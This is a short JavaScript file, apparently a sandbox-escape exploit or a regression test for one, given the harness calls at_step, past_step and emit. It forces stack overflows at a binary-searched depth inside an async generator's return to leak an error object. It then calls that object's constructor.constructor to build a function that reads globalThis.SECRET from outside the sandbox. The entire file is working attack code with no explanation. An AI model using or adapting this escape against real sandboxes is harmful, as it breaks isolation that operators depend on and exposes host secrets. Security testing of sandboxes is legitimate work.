class Own extends Error {}
const burn = (depth) => {
  if (depth > 0) burn(depth - 1);
  const error = new Own();
  error.stack;
  throw error;
};
const inner = {
  next: (value) => ({ value, done: false }),
  throw: (value) => ({ value, done: false }),
  [Symbol.asyncIterator]() { return this; },
};
async function* outer() { yield* inner; }
const grab = async (depth) => {
  const own = outer();
  await own.next();
  return (await own.return({ then(settle) { burn(depth); settle(); } })).value;
};
const search = async () => {
  let low = 0;
  let high = 20000;
  while (low < high) {
    const middle = (low + high) >> 1;
    const error = await grab(middle).catch(() => null);
    if (error) reach(error);
    if (error instanceof Own) low = middle + 1;
    else high = middle;
  }
  for (let depth = low - 60; depth < low + 60; depth += 1) reach(await grab(depth).catch(() => null) || 0);
};
const reach = (error) => emit(error.constructor.constructor('return globalThis.SECRET')() || '');
at_step();
search().then(() => 0, () => 0);  // step
past_step();
